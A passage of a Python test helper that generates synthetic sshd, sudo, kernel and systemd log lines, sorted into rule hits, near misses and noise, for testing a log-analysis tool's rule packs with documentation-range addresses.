"""samplegen - realistic log lines for the rule packs in packaging/rules/.

Every pack has a list of line makers: functions of a Gen (a seeded random
source with pools of hosts, users, addresses...) that return one line
(str, no line end). Makers come in three kinds: "hit" lines a rule of the
pack is written for, "near" lines that look like a hit but must not count
for some rule (a different status, a word inside a longer word, the
message another daemon writes...), and "noise" lines nobody counts.

sample(pack, seed, n) gives a pack's sample log: every maker once, then n
random draws; tests/rules/regen.py writes them to tests/rules/PACK.log.
lines(pack, rng, n) draws n lines for the exactness corpus
(tests/e2e/test_exactness.py).

Everything here is made up for weir's tests; nothing is copied from
/work/shared/testdata. Addresses come from the documentation ranges
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) and private
ones.
"""

import random

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


class Gen:
    """A seeded random source with pools. Some pools are skewed (a few
    values are frequent) so that top-k lists have clear leaders."""

    def __init__(self, rng, web="nginx"):
        self.r = rng
        self.web = web  # access lines: "nginx" (with $request_time) or "apache"
        self.attackers = [f"203.0.113.{i}" for i in (9, 45, 77, 130, 201)] + \
                         [f"198.51.100.{i}" for i in (4, 23, 61, 99, 188, 240)]
        self.clients = [f"192.0.2.{i}" for i in range(1, 60, 3)] + \
                       [f"10.1.{i}.{j}" for i in (0, 4) for j in (12, 57, 133)] + \
                       ["2001:db8::1", "2001:db8:42::7"]
        self.hosts = ["web1", "web2", "db1", "bastion", "app-03", "lb1"]
        self.logins = ["root", "admin", "test", "oracle", "ubuntu", "git", "postgres", "user",
                       "pi", "ftpuser", "guest", "support", "deploy", "jenkins", "hadoop"]
        self.staff = ["alice", "bob", "carol", "dave", "erin", "deploy"]

    # -- choices
    def pick(self, seq):
        return self.r.choice(seq)

    def skew(self, seq):
        """Index i is picked with weight 1/(i+1): the first few dominate."""
        return self.r.choices(seq, weights=[1.0 / (i + 1) for i in range(len(seq))])[0]

    def attacker(self):
        return self.skew(self.attackers)

    def client(self):
        return self.skew(self.clients)

    def any_ip(self):
        return self.pick((self.attacker, self.client))()

    def port(self):
        return self.r.randint(1024, 65535)

    def pid(self):
        return self.r.randint(300, 65000)

    def host(self):
        return self.pick(self.hosts)

    # -- time stamps
    def syslog_ts(self):
        r = self.r
        return f"{self.pick(MONTHS)} {r.randint(1, 28):2d} {r.randint(0, 23):02d}:" \
               f"{r.randint(0, 59):02d}:{r.randint(0, 59):02d}"

    def iso_ts(self):
        r = self.r
        return f"2024-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}T{r.randint(0, 23):02d}:" \
               f"{r.randint(0, 59):02d}:{r.randint(0, 59):02d}.{r.randint(0, 999999):06d}+00:00"

    def access_ts(self):
        r = self.r
        return f"{r.randint(1, 28):02d}/{self.pick(MONTHS)}/2024:{r.randint(0, 23):02d}:" \
               f"{r.randint(0, 59):02d}:{r.randint(0, 59):02d} {self.pick(['+0000', '+0100', '-0700', '+0330'])}"

    def uptime(self):
        return f"[{self.r.randint(1, 999999):6d}.{self.r.randint(0, 999999):06d}]"

    def syslog(self, prog, msg, pid=True):
        """A syslog file line: "TS HOST PROG[PID]: MSG" (or an ISO time stamp)."""
        ts = self.syslog_ts() if self.r.random() < 0.8 else self.iso_ts()
        tag = f"{prog}[{self.pid()}]" if pid else prog
        return f"{ts} {self.host()} {tag}: {msg}"

    def kernel(self, msg):
        stamp = f"{self.uptime()} " if self.r.random() < 0.7 else ""
        return self.syslog("kernel", stamp + msg, pid=False)


# ====================================================================== sshd


def _ssh(g, msg, prog=None):
    return g.syslog(prog or ("sshd" if g.r.random() < 0.85 else "sshd-session"), msg)


SSHD = [
    # hits
    ("hit", lambda g: _ssh(g, f"Failed password for {g.skew(g.logins)} from {g.attacker()} port {g.port()} ssh2")),
    ("hit", lambda g: _ssh(g, f"Failed password for invalid user {g.skew(g.logins)}{g.r.randint(1, 9)} from {g.attacker()} port {g.port()} ssh2")),
    ("hit", lambda g: _ssh(g, f"Failed password for root from {g.attacker()} port {g.port()} ssh2")),
    ("hit", lambda g: _ssh(g, f"Failed none for invalid user {g.pick(g.logins)} from {g.attacker()} port {g.port()} ssh2")),
    ("hit", lambda g: _ssh(g, f"Failed publickey for {g.pick(g.staff)} from {g.client()} port {g.port()} ssh2: ED25519 SHA256:Xq3{g.r.randint(1000, 9999)}kP0")),
    ("hit", lambda g: _ssh(g, f"Invalid user {g.skew(g.logins)}{g.pick(['', '', '1', '123'])} from {g.attacker()} port {g.port()}")),
    ("hit", lambda g: _ssh(g, f"Invalid user  from {g.attacker()} port {g.port()}")),
    ("hit", lambda g: _ssh(g, f"Invalid user {g.pick(g.logins)} from {g.attacker()}")),
    ("hit", lambda g: _ssh(g, f"Accepted publickey for {g.skew(g.staff)} from {g.client()} port {g.port()} ssh2: RSA SHA256:{g.r.randint(10**9, 10**10)}abcXYZ")),
    ("hit", lambda g: _ssh(g, f"Accepted password for {g.skew(g.staff)} from {g.client()} port {g.port()} ssh2")),
    ("hit", lambda g: _ssh(g, f"Accepted keyboard-interactive/pam for {g.pick(g.staff)} from {g.client()} port {g.port()} ssh2")),
    ("hit", lambda g: _ssh(g, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={g.attacker()}  user={g.pick(g.logins)}")),
    ("hit", lambda g: _ssh(g, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={g.attacker()}")),
    ("hit", lambda g: g.syslog("sshd(pam_unix)", f"authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={g.attacker()} ")),
    ("hit", lambda g: _ssh(g, "pam_unix(sshd:auth): check pass; user unknown")),
    ("hit", lambda g: g.syslog("sshd(pam_unix)", "check pass; user unknown")),
    ("hit", lambda g: _ssh(g, f"PAM {g.r.randint(1, 5)} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={g.attacker()}  user=root")),
    ("hit", lambda g: _ssh(g, f"PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={g.attacker()}")),
    ("hit", lambda g: _ssh(g, "PAM service(sshd) ignoring max retries; 6 > 3")),
    ("hit", lambda g: _ssh(g, "Disconnecting: Too many authentication failures for root [preauth]")),
    ("hit", lambda g: _ssh(g, f"Disconnecting authenticating user root {g.attacker()} port {g.port()}: Too many authentication failures [preauth]")),
    ("hit", lambda g: _ssh(g, f"error: maximum authentication attempts exceeded for invalid user admin from {g.attacker()} port {g.port()} ssh2 [preauth]")),
    ("hit", lambda g: _ssh(g, f"reverse mapping checking getaddrinfo for host-{g.r.randint(1, 250)}.example.net [{g.attacker()}] failed - POSSIBLE BREAK-IN ATTEMPT!")),
    ("hit", lambda g: _ssh(g, f"Address {g.attacker()} maps to scan{g.r.randint(1, 9)}.example.org, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!")),
    ("hit", lambda g: _ssh(g, f"Received disconnect from {g.attacker()}: 11: Bye Bye [preauth]")),
    ("hit", lambda g: _ssh(g, f"Received disconnect from {g.attacker()} port {g.port()}:11: Bye Bye [preauth]")),
    ("hit", lambda g: _ssh(g, f"error: Received disconnect from {g.attacker()}: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]")),
    ("hit", lambda g: _ssh(g, f"Received disconnect from {g.client()} port {g.port()}:11: disconnected by user")),
    ("hit", lambda g: _ssh(g, f"Disconnected from user {g.pick(g.staff)} {g.client()} port {g.port()}")),
    ("hit", lambda g: _ssh(g, f"Disconnected from invalid user {g.pick(g.logins)} {g.attacker()} port {g.port()} [preauth]")),
    ("hit", lambda g: _ssh(g, f"Connection closed by {g.attacker()} [preauth]")),
    ("hit", lambda g: _ssh(g, f"Connection closed by authenticating user root {g.attacker()} port {g.port()} [preauth]")),
    ("hit", lambda g: _ssh(g, f"Connection reset by {g.attacker()} port {g.port()} [preauth]")),
    ("hit", lambda g: _ssh(g, f"Did not receive identification string from {g.attacker()}")),
    ("hit", lambda g: _ssh(g, f"banner exchange: Connection from {g.attacker()} port {g.port()}: invalid format")),
    ("hit", lambda g: _ssh(g, f"Unable to negotiate with {g.attacker()} port {g.port()}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]")),
    ("hit", lambda g: _ssh(g, f"Unable to negotiate with {g.attacker()} port {g.port()}: no matching host key type found. Their offer: ssh-dss [preauth]")),
    ("hit", lambda g: _ssh(g, f"pam_unix(sshd:session): session opened for user {g.skew(g.staff)} by (uid=0)")),
    ("hit", lambda g: _ssh(g, f"pam_unix(sshd:session): session opened for user {g.skew(g.staff)}(uid={g.r.randint(1000, 1010)}) by {g.pick(g.staff)}(uid=0)")),
    ("hit", lambda g: _ssh(g, f"pam_unix(sshd:session): session closed for user {g.pick(g.staff)}")),
    ("hit", lambda g: _ssh(g, "fatal: Write failed: Connection reset by peer [preauth]")),
    ("hit", lambda g: _ssh(g, "error: kex_exchange_identification: Connection closed by remote host")),
    ("hit", lambda g: g.syslog("sshd", "Server listening on 0.0.0.0 port 22.")),
    ("hit", lambda g: g.syslog("sshd", "Server listening on :: port 22.")),
    # near misses
    ("near", lambda g: _ssh(g, f"message repeated {g.r.randint(2, 5)} times: [ Failed password for root from {g.attacker()} port {g.port()} ssh2]")),
    ("near", lambda g: g.syslog("vsftpd", f"Failed password for {g.pick(g.logins)} from {g.attacker()} port {g.port()} ssh2")),
    ("near", lambda g: _ssh(g, f"Failed password for {g.pick(g.logins)} from {g.attacker()}")),
    ("near", lambda g: _ssh(g, f"Failed password for rooted from {g.attacker()} port {g.port()} ssh2")),
    ("near", lambda g: _ssh(g, f"input_userauth_request: invalid user {g.pick(g.logins)} [preauth]")),
    ("near", lambda g: _ssh(g, f"Postponed publickey for {g.pick(g.staff)} from {g.client()} port {g.port()} ssh2 [preauth]")),
    ("near", lambda g: _ssh(g, f"Accepted publickey for {g.pick(g.staff)} from {g.client()}")),
    ("near", lambda g: _ssh(g, f"Connection from {g.client()} port {g.port()} on 10.0.0.5 port 22 rdomain \"\"")),
    ("near", lambda g: _ssh(g, f"Connection closed by {g.attacker()} port {g.port()} [preauth] extra")),
    ("near", lambda g: _ssh(g, f"Received signal 15; terminating.")),
    ("near", lambda g: _ssh(g, "pam_unix(sshd:account): account root has expired (account expired)")),
    ("near", lambda g: g.syslog("sudo", "pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice")),
    ("near", lambda g: g.syslog("login", "pam_unix(login:session): session opened for user root by LOGIN(uid=0)")),
    ("near", lambda g: _ssh(g, "warning: POSSIBLE BREAK IN ATTEMPT (no hyphen)")),
    ("near", lambda g: _ssh(g, "Server listening on 0.0.0.0 port ssh.")),
    ("near", lambda g: _ssh(g, "debug1: error: not really an error line")),
    ("near", lambda g: _ssh(g, f"Unable to negotiate with {g.attacker()} port {g.port()}: no matching compression method found")),
    ("near", lambda g: _ssh(g, "pam_unix(sshd:session): session opened")),
    # noise
    ("noise", lambda g: g.syslog("CRON", f"pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")),
    ("noise", lambda g: g.syslog("systemd-logind", f"New session {g.r.randint(1, 9999)} of user {g.pick(g.staff)}.")),
    ("noise", lambda g: g.syslog("systemd-logind", f"Removed session {g.r.randint(1, 9999)}.")),
]

# ====================================================================== sudo

_CMDS = ["/usr/bin/apt update", "/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -u nginx",
         "/bin/cat /var/log/syslog", "/usr/bin/docker ps", "/usr/bin/tail -f /var/log/auth.log",
         "/usr/bin/vim /etc/hosts", "/usr/sbin/reboot", "/usr/bin/psql", "/usr/bin/id"]
_PWDS = ["/home/alice", "/home/bob", "/srv/app", "/root", "/home/carol/My Projects", "/"]


def _sudo(g, msg):
    pad = " " * g.r.randint(1, 4)
    prog = "sudo" if g.r.random() < 0.7 else f"sudo[{g.pid()}]"
    return g.syslog(prog, f"{pad[:-1]}{msg}", pid=False)


def _sudo_line(g, who, runas, cmd, env=False, tty=True):
    t = f"TTY=pts/{g.r.randint(0, 9)} ; " if tty else ""
    e = "ENV=DEBIAN_FRONTEND=noninteractive ; " if env else ""
    return _sudo(g, f"{who} : {t}PWD={g.pick(_PWDS)} ; USER={runas} ; {e}COMMAND={cmd}")


SUDO = [
    ("hit", lambda g: _sudo_line(g, g.skew(g.staff), "root", g.skew(_CMDS))),
    ("hit", lambda g: _sudo_line(g, g.skew(g.staff), "root", g.skew(_CMDS), env=True)),
    ("hit", lambda g: _sudo_line(g, "deploy", "root", "/usr/bin/systemctl reload app", tty=False)),
    ("hit", lambda g: _sudo_line(g, g.pick(g.staff), g.pick(["postgres", "www-data", "app"]), "/usr/bin/psql -l")),
    ("hit", lambda g: _sudo_line(g, g.pick(g.staff), "root", g.pick(["/bin/bash", "/usr/bin/bash", "/bin/su -", "/usr/bin/su - root", "/bin/zsh", "/bin/sh -i"]))),
    ("hit", lambda g: g.syslog("sudo", f"pam_unix(sudo:auth): authentication failure; logname={g.pick(g.staff)} uid=1000 euid=0 tty=/dev/pts/1 ruser={g.pick(g.staff)} rhost=  user={g.skew(g.staff)}", pid=False)),
    ("hit", lambda g: g.syslog("sudo", f"pam_unix(sudo-i:auth): authentication failure; logname=bob uid=1001 euid=0 tty=/dev/pts/2 ruser=bob rhost=  user=bob")),
    ("hit", lambda g: _sudo(g, f"{g.skew(g.staff)} : {g.r.randint(1, 3)} incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND={g.pick(_CMDS)}")),
    ("hit", lambda g: _sudo(g, f"{g.pick(g.staff)} : 1 incorrect password attempt ; TTY=pts/3 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/id")),
    ("hit", lambda g: _sudo(g, f"{g.pick(['mallory', 'intern', 'www-data', 'guest'])} : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash")),
    ("hit", lambda g: _sudo(g, f"mallory : 3 incorrect password attempts ; user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/passwd root")),
    ("hit", lambda g: _sudo(g, f"{g.pick(g.staff)} : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/passwd root")),
    ("hit", lambda g: _sudo(g, f"{g.pick(g.staff)} : a password is required ; TTY=unknown ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl status app")),
    ("hit", lambda g: g.syslog("sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {g.pick(g.staff)}(uid=1000)", pid=False)),
    ("hit", lambda g: g.syslog("sudo", f"pam_unix(sudo:session): session opened for user {g.pick(['root', 'postgres'])} by {g.pick(g.staff)}(uid=1000)")),
    ("hit", lambda g: g.syslog("sudo", "pam_unix(sudo:session): session closed for user root", pid=False)),
    ("hit", lambda g: g.syslog("sudo", "pam_unix(sudo-i:session): session closed for user root")),
    ("hit", lambda g: _sudo(g, "sorry, you must have a tty to run sudo ; TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/ls")),
    ("hit", lambda g: g.syslog("su", f"(to root) {g.pick(g.staff)} on pts/{g.r.randint(0, 5)}")),
    ("hit", lambda g: g.syslog("su", f"Successful su for root by {g.pick(g.staff)}", pid=False)),
    ("hit", lambda g: g.syslog("su", f"FAILED SU (to root) {g.pick(g.staff)} on pts/{g.r.randint(0, 5)}")),
    ("hit", lambda g: g.syslog("su", "pam_unix(su-l:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/1 ruser=bob rhost=  user=root")),
    # near misses
    ("near", lambda g: _sudo_line(g, g.pick(g.staff), "root", "/bin/bash -c 'echo hi'")),
    ("near", lambda g: _sudo_line(g, g.pick(g.staff), "root", "/usr/bin/shred -u /tmp/x")),
    ("near", lambda g: _sudo_line(g, g.pick(g.staff), "rooter", "/usr/bin/id")),
    ("near", lambda g: g.syslog("pseudo", f"{g.pick(g.staff)} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id", pid=False)),
    ("near", lambda g: _sudo(g, f"{g.pick(g.staff)} : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/id")),
    ("near", lambda g: _sudo(g, f"{g.pick(g.staff)} : incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id")),
    ("near", lambda g: _sudo(g, f"{g.pick(g.staff)} : user in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id")),
    ("near", lambda g: g.syslog("sudo", "pam_unix(sudo:auth): conversation failed", pid=False)),
    ("near", lambda g: g.syslog("sudo", "pam_unix(sudo:account): account alice has password changed in future", pid=False)),
    ("near", lambda g: g.syslog("sudo", "unable to resolve host app-03: Name or service not known", pid=False)),
    ("near", lambda g: g.syslog("visudo", "sudoers file busy, try again later", pid=False)),
    ("near", lambda g: g.syslog("issue", "(to root) on pts/1", pid=False)),
    ("near", lambda g: g.syslog("CRON", "pam_unix(cron:session): session closed for user root")),
    # noise
    ("noise", lambda g: g.syslog("systemd", f"Started Session {g.r.randint(1, 999)} of User {g.pick(g.staff)}.")),
    ("noise", lambda g: g.syslog("polkitd", "Registered Authentication Agent for unix-process:1234:5678 (system bus name :1.99)")),
]

# ====================================================================== kernel

_PROCS = ["java", "mysqld", "node", "postgres", "chrome", "php-fpm7.4", "python3", "Web Content",
          "kworker/u16:2", "(sd-pam)"]


KERNEL = [
    ("hit", lambda g: g.kernel(f"{g.skew(['mysqld', 'java', 'node', 'python3'])} invoked oom-killer: gfp_mask=0x100cca(GFP_HIGHUSER_MOVABLE), order=0, oom_score_adj=0")),
    ("hit", lambda g: g.kernel(f"Out of memory: Killed process {g.pid()} ({g.skew(_PROCS)}) total-vm:{g.r.randint(10**5, 10**7)}kB, anon-rss:{g.r.randint(10**4, 10**6)}kB, file-rss:0kB, shmem-rss:0kB, UID:{g.r.randint(0, 1000)} pgtables:2048kB oom_score_adj:0")),
    ("hit", lambda g: g.kernel(f"Killed process {g.pid()} ({g.skew(_PROCS)}) total-vm:{g.r.randint(10**5, 10**7)}kB, anon-rss:{g.r.randint(10**4, 10**6)}kB, file-rss:0kB")),
    ("hit", lambda g: g.kernel(f"Memory cgroup out of memory: Killed process {g.pid()} ({g.pick(_PROCS)}) total-vm:1234567kB, anon-rss:524288kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:1100kB oom_score_adj:200")),
    ("hit", lambda g: g.kernel(f"{g.skew(['nginx', 'php-fpm7.4', 'python3', 'myapp'])}[{g.pid()}]: segfault at {g.r.randint(0, 2**32):x} ip 00007f2b8c0e{g.r.randint(0, 65535):04x} sp 00007ffd5d7f0a28 error {g.pick([4, 6, 14])} in libc.so.6[7f2b8c080000+178000]")),
    ("hit", lambda g: g.kernel(f"traps: {g.pick(['php-fpm7.4', 'myapp', 'chrome'])}[{g.pid()}] general protection fault ip:55d1c0a1b2c3 sp:7ffc3e2d1a40 error:0 in myapp[55d1c0a00000+21000]")),
    ("hit", lambda g: g.kernel(f"traps: myapp[{g.pid()}] trap invalid opcode ip:401234 sp:7ffe12345678 error:0 in myapp[400000+5000]")),
    ("hit", lambda g: g.kernel(f"blk_update_request: I/O error, dev {g.skew(['sdb', 'sda', 'nvme0n1'])}, sector {g.r.randint(0, 10**9)} op 0x0:(READ) flags 0x0 phys_seg 1 prio class 0")),
    ("hit", lambda g: g.kernel(f"I/O error, dev {g.skew(['sdb', 'sda', 'nvme0n1'])}, sector {g.r.randint(0, 10**9)} op 0x1:(WRITE) flags 0x800 phys_seg 1 prio class 2")),
    ("hit", lambda g: g.kernel(f"Buffer I/O error on dev {g.pick(['sdb1', 'sda2'])}, logical block {g.r.randint(0, 10**6)}, async page read")),
    ("hit", lambda g: g.kernel(f"critical medium error, dev sdb, sector {g.r.randint(0, 10**9)} op 0x0:(READ) flags 0x0 phys_seg 1 prio class 0")),
    ("hit", lambda g: g.kernel("ata3.00: exception Emask 0x0 SAct 0x0 SErr 0x0 action 0x0")),
    ("hit", lambda g: g.kernel("ata3.00: failed command: READ DMA EXT")),
    ("hit", lambda g: g.kernel("ata3.00: status: { DRDY ERR }")),
    ("hit", lambda g: g.kernel(f"EXT4-fs error (device sdb1): ext4_find_entry:1455: inode #{g.r.randint(2, 10**6)}: comm nginx: reading directory lblock 0")),
    ("hit", lambda g: g.kernel("XFS (dm-0): metadata I/O error in \"xfs_trans_read_buf_map\" at daddr 0x2 len 1 error 5")),
    ("hit", lambda g: g.kernel("BTRFS error (device sdc1): bdev /dev/sdc1 errs: wr 0, rd 1, flush 0, corrupt 0, gen 0")),
    ("hit", lambda g: g.kernel("EXT4-fs (sdb1): Remounting filesystem read-only")),
    ("hit", lambda g: g.kernel(f"INFO: task {g.skew(['kworker/u16:2', 'jbd2/sda1-8', 'mysqld', 'java'])}:{g.pid()} blocked for more than {g.pick([120, 241, 362])} seconds.")),
    ("hit", lambda g: g.kernel(f"watchdog: BUG: soft lockup - CPU#{g.r.randint(0, 15)} stuck for {g.r.randint(21, 60)}s! [{g.skew(['java', 'swapper/0', 'kworker/3:1'])}:{g.pid()}]")),
    ("hit", lambda g: g.kernel(f"NMI watchdog: Watchdog detected hard LOCKUP on cpu {g.r.randint(0, 15)}")),
    ("hit", lambda g: g.kernel("rcu: INFO: rcu_sched self-detected stall on CPU")),
    ("hit", lambda g: g.kernel("rcu: INFO: rcu_preempt detected stalls on CPUs/tasks:")),
    ("hit", lambda g: g.kernel("BUG: unable to handle kernel NULL pointer dereference at 0000000000000008")),
    ("hit", lambda g: g.kernel("BUG: unable to handle page fault for address: ffffb1e6c0a3f000")),
    ("hit", lambda g: g.kernel("kernel BUG at mm/slub.c:305!")),
    ("hit", lambda g: g.kernel("Kernel panic - not syncing: Fatal exception in interrupt")),
    ("hit", lambda g: g.kernel("mce: [Hardware Error]: Machine check events logged")),
    ("hit", lambda g: g.kernel("EDAC MC0: 1 CE memory read error on CPU_SrcID#0_Ha#0_Chan#1_DIMM#0 [Hardware Error]: corrected")),
    ("hit", lambda g: g.kernel(f"e1000e: {g.skew(['eth0', 'eth1'])} NIC Link is Down")),
    ("hit", lambda g: g.kernel(f"e1000e: {g.skew(['eth0', 'eth1'])} NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx")),
    ("hit", lambda g: g.kernel(f"r8169 0000:02:00.0 enp2s0: Link is {g.pick(['Up - 1Gbps/Full - flow control rx/tx', 'Down'])}")),
    ("hit", lambda g: g.kernel(f"igb 0000:01:00.0 eno1: igb: eno1 NIC Link is {g.pick(['Up 1000 Mbps Full Duplex, Flow Control: RX', 'Down'])}")),
    ("hit", lambda g: g.kernel(f"mlx5_core 0000:3b:00.0 ens1f0: Link {g.pick(['up', 'down'])}")),
    ("hit", lambda g: g.kernel(f"[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC={g.attacker()} DST=10.0.0.5 LEN=40 TOS=0x00 PREC=0x00 TTL=241 ID=54321 PROTO=TCP SPT={g.port()} DPT={g.pick([22, 23, 3389, 445])} WINDOW=1024 RES=0x00 SYN URGP=0")),
    ("hit", lambda g: g.kernel("nf_conntrack: nf_conntrack: table full, dropping packet")),
    ("hit", lambda g: g.kernel("nf_conntrack: table full, dropping packet")),
    ("hit", lambda g: g.kernel(f"CPU{g.r.randint(0, 7)}: Package temperature above threshold, cpu clock throttled (total events = {g.r.randint(1, 9999)})")),
    ("hit", lambda g: g.kernel("CPU3: Core temperature above threshold, cpu clock throttled (total events = 12)")),
    ("hit", lambda g: g.kernel("Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)")),
    # near misses
    ("near", lambda g: g.kernel(f"Out of memory: Kill process {g.pid()} (java) score 912 or sacrifice child")),
    ("near", lambda g: g.kernel("oom_reaper: reaped process 4123 (java), now anon-rss:0kB, file-rss:0kB, shmem-rss:0kB")),
    ("near", lambda g: g.kernel("Tasks state (memory values in pages):")),
    ("near", lambda g: g.syslog("myapp", "worker[12]: segfault handler installed")),
    ("near", lambda g: g.kernel("nginx[4567]: segfault at ip unknown")),
    ("near", lambda g: g.kernel("EXT4-fs warning (device sda1): ext4_end_bio:343: I/O error 10 writing to inode 1234 starting block 5678)")),
    ("near", lambda g: g.kernel("I/O error on device sdz, no dev given")),
    ("near", lambda g: g.kernel("ata3: SATA link up 6.0 Gbps (SStatus 133 SControl 300)")),
    ("near", lambda g: g.kernel("ata3.00: configured for UDMA/133")),
    ("near", lambda g: g.kernel("EXT4-fs (sda1): mounted filesystem with ordered data mode. Quota mode: none.")),
    ("near", lambda g: g.kernel("XFS (dm-0): Mounting V5 Filesystem")),
    ("near", lambda g: g.kernel("INFO: task java:1234 blocked for more than a while")),
    ("near", lambda g: g.kernel("soft lockup detector enabled")),
    ("near", lambda g: g.kernel("rcu: Hierarchical SRCU implementation.")),
    ("near", lambda g: g.kernel("BUG: Bad page state in process swapper  pfn:12345")),
    ("near", lambda g: g.kernel("panic=10 set on the command line")),
    ("near", lambda g: g.kernel("IPv6: ADDRCONF(NETDEV_CHANGE): eth0: link becomes ready")),
    ("near", lambda g: g.kernel("e1000e 0000:00:19.0 eth0: Link is Downshifted")),
    ("near", lambda g: g.kernel("bond0: link status definitely up for interface eth1, 1000 Mbps full duplex")),
    ("near", lambda g: g.kernel("[UFW ALLOW] IN=eth0 OUT= SRC=192.0.2.7 DST=10.0.0.5 PROTO=TCP DPT=443")),
    ("near", lambda g: g.kernel("nf_conntrack: default automatic helper assignment has been turned off for security reasons")),
    ("near", lambda g: g.kernel("CPU3: Core temperature/speed normal")),
    ("near", lambda g: g.syslog("systemd", "Linux version check skipped")),
    # noise
    ("noise", lambda g: g.kernel(f"usb 1-1: new high-speed USB device number {g.r.randint(2, 20)} using xhci_hcd")),
    ("noise", lambda g: g.kernel("audit: type=1400 audit(1709470931.123:45): apparmor=\"STATUS\" operation=\"profile_load\"")),
]

# ====================================================================== systemd

_UNITS = ["nginx.service", "myapp.service", "postgresql@15-main.service", "docker.service",
          "backup.timer", "mnt-data.mount", "getty@tty1.service", "php8.2-fpm.service"]
_DESCR = ["nginx.service - A high performance web server and a reverse proxy server",
          "The nginx HTTP and reverse proxy server", "myapp.service - My App",
          "PostgreSQL Cluster 15-main", "Docker Application Container Engine"]


def _sd(g, msg):
    return g.syslog("systemd", msg, pid=False).replace("systemd:", f"systemd[{g.pick([1, 1, 1, g.pid()])}]:", 1)


SYSTEMD = [
    ("hit", lambda g: _sd(g, f"{g.skew(_UNITS)}: Failed with result '{g.pick(['exit-code', 'timeout', 'signal', 'core-dump', 'start-limit-hit'])}'.")),
    ("hit", lambda g: _sd(g, f"dev-disk-by\\x2duuid-1234\\x2dabcd.device: Failed with result 'timeout'.")),
    ("hit", lambda g: _sd(g, f"Unit {g.pick(_UNITS)} entered failed state.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: Unit entered failed state.")),
    ("hit", lambda g: _sd(g, f"Failed to start {g.skew(_DESCR)}.")),
    ("hit", lambda g: _sd(g, f"Started {g.pick(_DESCR)}.")),
    ("hit", lambda g: _sd(g, f"Stopped {g.pick(_DESCR)}.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: Deactivated successfully.")),
    ("hit", lambda g: _sd(g, f"{g.skew(_UNITS)}: Main process exited, code={g.pick(['exited', 'killed', 'dumped'])}, status={g.pick(['1/FAILURE', '9/KILL', '6/ABRT', '203/EXEC', '11/SEGV'])}")),
    ("hit", lambda g: _sd(g, f"{g.skew(_UNITS)}: Scheduled restart job, restart counter is at {g.r.randint(1, 12)}.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: Start request repeated too quickly.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: Watchdog timeout (limit {g.pick(['30s', '3min'])})!")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: State 'stop-sigterm' timed out. Killing.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: Processes still around after final SIGTERM. Entering failed mode.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: A process of this unit has been killed by the OOM killer.")),
    ("hit", lambda g: _sd(g, f"{g.pick(_UNITS)}: Failed with result 'oom-kill'.")),
    ("hit", lambda g: _sd(g, f"Dependency failed for {g.pick(_DESCR)}.")),
    ("hit", lambda g: g.syslog("systemd-coredump", f"Process {g.pid()} ({g.skew(['myapp', 'php-fpm8.2', 'node'])}) of user {g.pick([0, 33, 1000])} dumped core.")),
    # near misses
    ("near", lambda g: _sd(g, f"{g.pick(_UNITS)}: Main process exited, code=exited, status=0/SUCCESS")),
    ("near", lambda g: _sd(g, f"{g.pick(_UNITS)}: Failed to load environment files: No such file or directory")),
    ("hit", lambda g: _sd(g, "Failed to start transient unit: Unit already exists.")),
    ("near", lambda g: g.syslog("myapp", "Failed to start worker pool")),
    ("near", lambda g: g.syslog("myapp", "Started listening on :8080")),
    ("near", lambda g: _sd(g, f"Starting {g.pick(_DESCR)}...")),
    ("near", lambda g: _sd(g, f"Stopping {g.pick(_DESCR)}...")),
    ("near", lambda g: _sd(g, f"{g.pick(_UNITS)}: Scheduled restart job.")),
    ("near", lambda g: _sd(g, f"{g.pick(_UNITS)}: Consumed {g.r.randint(1, 999)}.{g.r.randint(0, 999):03d}s CPU time.")),
    ("near", lambda g: _sd(g, f"{g.pick(_UNITS)}: Watchdog timeout disabled.")),
    ("near", lambda g: _sd(g, "Reached target Multi-User System.")),
